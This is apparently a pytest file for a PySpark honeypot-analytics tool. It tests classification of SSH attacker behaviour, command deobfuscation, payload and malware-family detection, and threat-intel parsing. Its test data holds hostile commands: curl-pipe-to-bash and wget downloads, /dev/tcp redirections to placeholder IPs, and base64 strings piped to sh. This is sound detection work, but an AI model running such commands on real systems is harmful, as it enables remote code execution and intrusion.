"""Labels, scores, templates, decoding, payloads, recordings and vetting."""

from __future__ import annotations

import struct

import pytest
from pyspark.sql import functions as F

from sentrymill.functions import classify as C
from sentrymill.functions import commands as X
from sentrymill.functions import payload, tty, vetting
from sentrymill.functions.deobf import decode, deobfuscated
from sentrymill.plans.dashboard import gauge


def one(spark, schema, rows, *cols):
    return [tuple(r) for r in spark.createDataFrame(rows, schema).select(*cols).collect()]


def test_playbooks(spark):
    cases = [([], 500.0, "unknown"), (["zhangwei", "liming", "root"], 200.0, "fast_dictionary_spray"), (["oracle", "postgres", "X1"], 10.0, "service_account_enum"), (["sol", "solana"], 10.0, "crypto_target"), (["k8s-ops", "deploy", "A9"], 10.0, "ops_target"), (["admin", "root"], 50.0, "default_credential_spray"), (["A1"], 70.0, "dictionary_spray"), (["A1"], 1.0, "opportunistic")]
    got = one(spark, "u array<string>, r double, want string", cases, C.playbook(F.col("u"), F.col("r")), "want")
    assert all(a == b for a, b in got)


def test_sensor_overlay(spark):
    rows = [([], 1.0, "SSH-2.0-libssh_0.9.6", 1, "scanner_tool"), ([], 1.0, "SSH-2.0-OpenSSH_9", 1, "handshake_scan"), ([], 1.0, "SSH-2.0-Go", C.COMMAND, "unknown"), (["A1"], 1.0, "SSH-2.0-Go", C.AUTH, "opportunistic")]
    got = one(spark, "u array<string>, r double, c string, m int, want string", rows, C.sensor_playbook(F.col("u"), F.col("r"), F.col("c"), F.col("m")), "want")
    assert all(a == b for a, b in got)


def test_intent_truth_table(spark):
    rows = []
    for m in range(16):
        tunnel, pay, probe, deploy = (bool(m & b) for b in (1, 2, 4, 8))
        staged = pay or deploy
        want = "mixed" if tunnel and staged else "probe" if probe and not staged else "proxy" if tunnel else "deploy" if staged else "unknown"
        rows.append(((tunnel and C.TUNNEL) | (pay and C.PAYLOAD) | (probe and C.PROBE) | (deploy and C.DEPLOY_CMD) | 0, want))
    got = one(spark, "m int, want string", rows, C.intent(F.col("m")), "want")
    assert all(a == b for a, b in got)


def test_deploy_commands(spark):
    yes = ["curl -s http://x/a | bash", "wget http://x -O /tmp/a", "chmod +x a", "chmod 777 a", "./payload", "cd /x; ./run", "sh /tmp/a.sh", "tftp -g x > y", "`./a`"]
    no = ["ls /tmp/", "curl http://x", "cd ./sub", "cat ./file", "ssh -o A=b", "uname -a", "echo ok"]
    got = one(spark, "c string", [(c,) for c in yes + no], C.deploys(F.col("c")))
    assert [g[0] for g in got] == [True] * len(yes) + [False] * len(no)


def test_tiers_and_scores(spark):
    assert [r[0] for r in one(spark, "c int", [(84,), (83,), (72,), (71,), (70,), (69,)], C.tier(F.col("c")))] == ["CONFIRMED", "HIGH", "HIGH", "MEDIUM", "MEDIUM", "LOW"]
    assert one(spark, "m int, r double", [(1, 120.0), (15, 0.0), (0, 19.0)], C.sensor_score(F.col("m"), F.col("r"))) == [(60,), (100,), (0,)]
    assert one(spark, "n long, r double, u int", [(100, 120.0, 10), (1, 0.0, 0)], C.journal_score(F.col("n"), F.col("r"), F.col("u"))) == [(95,), (30,)]


def test_threat_gauge(spark):
    df = spark.createDataFrame([(0, 0, 0, 0, 0), (10**7, 10**6, 10**6, 10**6, 0)], "events long, ips long, accepted long, commands long, downloads long")
    assert [(r["score"], r["label"]) for r in gauge(df).collect()] == [(0, "LOW"), (100, "CRITICAL")]


def test_templates(spark):
    cases = {"wget http://1.2.3.4/x.sh -O /tmp/x": "wget <URL> -O <PATH>", "cat > /dev/tcp/1.2.3.4/4444": "cat > /dev/tcp/<IP>/<N>", "echo deadbeefdeadbeef12": "echo <HEX>", "nc host:8080": "nc host:<PORT>", "sleep 300  &&  id": "sleep <N> && id"}
    got = one(spark, "c string", [(c,) for c in cases], "c", X.template(F.col("c")))
    assert dict(got) == cases


def test_techniques_and_urls(spark):
    rows = [("command", "whoami && wget http://a/b;"), ("connect", ""), ("command", "éid"), ("file_upload", "")]
    got = [r[0] for r in one(spark, "k string, c string", rows, X.techniques(F.col("k"), F.col("c")))]
    assert got == [["T1059.004", "T1033", "T1105"], ["T1133"], ["T1059.004", "T1033"], ["T1105"]]
    got = one(spark, "c string", [("""curl "http://a/b" 'https://c/d;'""",), ("x > /dev/tcp/10.0.0.5/8080",), ("none",)], X.urls(F.col("c")))
    assert [g[0] for g in got] == [["http://a/b", "https://c/d"], ["http://10.0.0.5:8080/"], []]


def test_csv_guard(spark):
    got = one(spark, "v string", [("=1+1",), ("-x",), ("ok",), ("@a",)], X.csv_safe(F.col("v")))
    assert [g[0] for g in got] == ["'=1+1", "'-x", "ok", "'@a"]


@pytest.mark.parametrize(
    "command,kind,final",
    [
        ("echo d2hvYW1pICYmIHVuYW1lIC1h | base64 -d | sh", "echo-pipe-base64", "whoami && uname -a"),
        ('bash -c "$(echo d2hvYW1pCg== | base64 -d)"', "bash-c-subshell-base64", "whoami\n"),
        (r"printf '\x69\x64'", "printf-hex", "id"),
        ("77686f616d69202626206964", "hex", "whoami && id"),
        ("a%20%20b", "urlencoded", "a  b"),
    ],
)
def test_decoding(command, kind, final):
    got, layers = decode(command)
    assert layers[0]["kind"] == kind and got == final


def test_decoding_bounds(spark):
    assert decode("uname -a") == ("uname -a", []) and decode("AAAAAAAAAAAAAAAAAAAA")[1] == []
    df = spark.createDataFrame([("eval 'eval id'",)], "c string").select(deobfuscated("c").alias("d")).collect()
    assert len(df[0]["d"]["layers"]) <= 3


def test_payloads(spark):
    ident = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    head = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    elf = head + struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, 0, 0, 0) + b"UPX!" + b"\0" * 50
    assert payload.classify(elf) == ("ELF", "", ["elf", "x86-64", "static", "packed", "upx", "linux"])
    assert payload.classify(b"ssh-rsa AAAA")[0] == "SSH key" and payload.classify(b"MZ..")[0] == "PE executable"
    assert payload.classify(b"#!/bin/sh\n./xmrig")[:2] == ("Shell script", "XMRig")
    assert payload.classify(b"import os\ndef f():\n    pass\n")[0] == "Python (no shebang)"
    assert payload.classify(b"C0755 12 a.sh\n#!/bin/sh\n")[0] == "Shell script (scp-framed)" and payload.classify(b"\0\1\2")[0] == "unknown"
    row = spark.createDataFrame([(bytearray(b"#!/bin/bash\necho hello world"),)], "content binary").select(payload.described("content").alias("d")).collect()[0]["d"]
    assert row["kind"] == "Shell script" and "echo hello world" in row["strings"] and row["hex"].startswith("00000000: 2321")


def test_recordings(spark):
    f = lambda op, d, data, t: struct.pack("<iiiiII", op, 0, len(data), d, t, 5) + data
    log = f(1, 0, b"", 1) + f(3, 2, b"\x1b[1;3", 2) + f(3, 2, b"1mhi\xc3", 3) + f(3, 2, b"\xa9\n", 4) + f(3, 1, b"ls\r", 5) + f(4, 1, b"uname", 6) + f(3, 1, b"torn", 7)[:-2]
    assert len(tty.decode(log)) == 7 and tty.decode(log)[-1][3] == b"to"
    assert tty.transcript(log) == "hié\nls\nunameto" and tty.transcript(log, output=False) == "ls\nunameto"
    got = spark.createDataFrame([(bytearray(log),)], "b binary").select(tty.rendered("b"), F.size(tty.frames("b"))).collect()[0]
    assert tuple(got) == ("hié\nls\nunameto", 7)


def test_url_vetting(spark):
    now = F.lit("2024-01-31 00:00:00")
    base = dict(url="http://dl.example.net/a", origin="quarantine_fetch", status="fetched", sha="a" * 64, size=100, kind="ELF", at="2024-01-30 00:00:00")
    cases = [({}, None), ({"url": "ftp://x.example.net/"}, "not an http(s) address"), ({"url": "http://u:p@x.example.net/"}, "credentials in the address"), ({"url": "http://10.0.0.1/"}, "private or reserved address"), ({"origin": "tty"}, "not fetched by us"), ({"status": "failed"}, "fetch did not succeed"), ({"size": 10}, "payload too small"), ({"kind": "SSH key"}, "benign content"), ({"at": "2024-01-01 00:00:00"}, "too old"), ({"at": "2024-02-02 00:00:00"}, "fetched in the future"), ({"url": "http://8.8.8.8:99999/"}, "invalid port")]
    rows = [tuple({**base, **c}.values()) for c, _ in cases]
    df = spark.createDataFrame(rows, "url string, origin string, status string, sha string, size int, kind string, at string")
    got = [r[0] for r in df.select(vetting.url_reason(*map(F.col, ("url", "origin", "status", "sha", "size", "kind")), F.col("at").cast("timestamp"), now)).collect()]
    assert got == [w for _, w in cases]
    got = df.limit(1).select(vetting.iocs(F.col("url"), F.col("sha")).alias("i")).collect()[0]["i"]
    assert [x["kind"] for x in got] == ["url", "domain", "sha256"]


def test_providers(spark):
    from sentrymill.functions.providers import resolved

    rows = [
        ("1.1.1.1", "abuseipdb", '{"data":{"abuseConfidenceScore":80,"countryCode":"NL","isp":"X","usageType":"Data Center","hostnames":["h"]}}', "2024-01-30 12:00:00"),
        ("1.1.1.1", "abuseipdb", '{"data":{"abuseConfidenceScore":10}}', "2024-01-01 00:00:00"),
        ("1.1.1.1", "otx", '{"pulse_info":{"count":2,"pulses":[{"name":"p","tags":["B","a"]}]},"asn":"AS1 Net Co"}', "2024-01-20 00:00:00"),
        ("1.1.1.1", "greynoise", '{"classification":"benign","riot":true,"name":"N"}', "2024-01-30 12:00:00"),
        ("1.1.1.1", "ipqualityscore", '{"success":true,"fraud_score":60,"vpn":true,"ASN":7}', "2024-01-30 12:00:00"),
        ("1.1.1.1", "shodan", '{"ports":[22],"vulns":["CVE"]}', "2024-01-30 12:00:00"),
        ("1.1.1.1", "ipinfo", '{"org":"AS9 O","privacy":{"tor":true}}', "2024-01-30 12:00:00"),
        ("1.1.1.1", "virustotal", "not json", "2024-01-30 12:00:00"),
    ]
    df = spark.createDataFrame(rows, "ip string, source string, payload string, fetched_at string").withColumn("fetched_at", F.col("fetched_at").cast("timestamp"))
    got = {r["source"]: r for r in resolved(df, "2024-01-31 00:00:00").collect()}
    assert set(got) == {"abuseipdb", "otx", "greynoise", "ipqualityscore", "shodan", "ipinfo"}
    assert got["abuseipdb"]["verdict"] == "malicious" and got["abuseipdb"]["tags"] == ["data-center", "h"] and not got["abuseipdb"]["stale"]
    assert got["otx"]["verdict"] == "suspicious" and got["otx"]["score"] == 40 and got["otx"]["asn"] == "AS1" and got["otx"]["as_owner"] == "Net Co" and got["otx"]["stale"] and got["otx"]["tags"] == ["a", "b"]
    assert got["greynoise"]["tags"] == ["riot", "N"] and got["ipqualityscore"]["verdict"] == "suspicious" and got["ipqualityscore"]["asn"] == "AS7"
    assert got["shodan"]["verdict"] == "suspicious" and got["shodan"]["tags"] == ["port:22"] and got["ipinfo"]["verdict"] == "suspicious" and got["ipinfo"]["asn"] == "AS9"


def test_elf_families():
    masked = lambda key, *words: b"".join(bytes(c ^ key for c in w) + b"\0" for w in words)
    cases = {
        b"..Mozi.m": "Mozi", b"x Mozi y": "Mozi", b"xMozilla": "", b"Mozilla/5.0": "",
        b"Applet Not Found /bin/busybox": "Mirai", masked(0x22, b"nameserver", b"assword"): "Mirai", masked(0x54, b"listening"): "",
        b"GayFgt": "Gafgyt", b"HOLD JUNK /BIN/BUSYBOX": "Gafgyt", b"HOLD JUNK": "",
        b"GETSPOOFS PAN  PRIVMSG": "Tsunami", b"GETSPOOFS PRIVMSG": "",
        b"XMRig/6 libuv/1 RandomX": "XMRig", b"randomx": "", b"c3pool": "Coinminer", b"komari redtail": "RedTail",
    }
    assert {k: payload.classify(b"\x7fELF" + k)[1] for k in cases} == cases
    assert "botnet" in payload.classify(b"\x7fELF Mozi.a")[2]
